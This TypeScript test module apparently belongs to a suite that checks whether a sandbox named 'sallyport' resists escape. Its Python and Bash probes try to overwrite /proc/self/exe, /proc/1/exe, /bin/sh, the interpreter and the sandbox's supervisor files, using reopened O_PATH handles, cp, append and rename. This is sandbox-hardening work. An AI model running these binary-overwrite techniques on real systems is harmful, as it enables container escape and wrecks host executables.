// If this worked: a program would replace the binary that the host or the next session starts, and run there as they do.
import type { Attack } from '../attack.ts';

export const attack: Attack = {
  programs: [
    {
      language: 'python',
      control: true,
      // A binary that runs is busy for everybody; the way around that is a handle that is opened anew after its end.
      code: (_field, place) => `
import shutil
targets = {'inside': ['/proc/self/exe', '/proc/1/exe', f'/proc/{os.getppid()}/exe', sys.executable, '/bin/sh', '/usr/bin/env',
    '/run/sallyport/bin/node', '/run/sallyport/inside/supervisor.sh', '/run/sallyport/inside/python/kernel.py'],
    'outside': ['copy-of-true']}['${place}']
open('mine', 'w').close()
if '${place}' == 'outside':
    shutil.copy('/bin/true', 'copy-of-true')
def overwrite(path):
    handle = os.open(path, getattr(os, 'O_PATH', os.O_RDONLY))
    with open(os.open(f'/proc/self/fd/{handle}', os.O_WRONLY), 'wb') as file:
        return file.write(b'#!/bin/sh\\n')
for target in targets:
    attempt('handle of ' + target, lambda: overwrite(target))
    attempt(target, lambda: open(target, 'r+b').write(b'x'))
    attempt('replace ' + target, lambda: os.rename('mine', target) or 'renamed')
`,
    },
    {
      language: 'bash',
      byEffect: true,
      control: 'The copy that the other program overwrites shows it; this one names the real binaries',
      code: () => `
for target in /bin/sh /usr/bin/python3 /usr/bin/env /proc/self/exe /run/sallyport/bin/node; do
  attempt "cp over $target" "cp /bin/true $target"
  attempt "append to $target" "echo x >>$target"
done
printf '#!/proc/self/exe\\n' >/tmp/self-exe; chmod +x /tmp/self-exe
attempt 'a script whose interpreter is its reader' '/tmp/self-exe && echo x >>/proc/$$/exe'
`,
    },
  ],
};
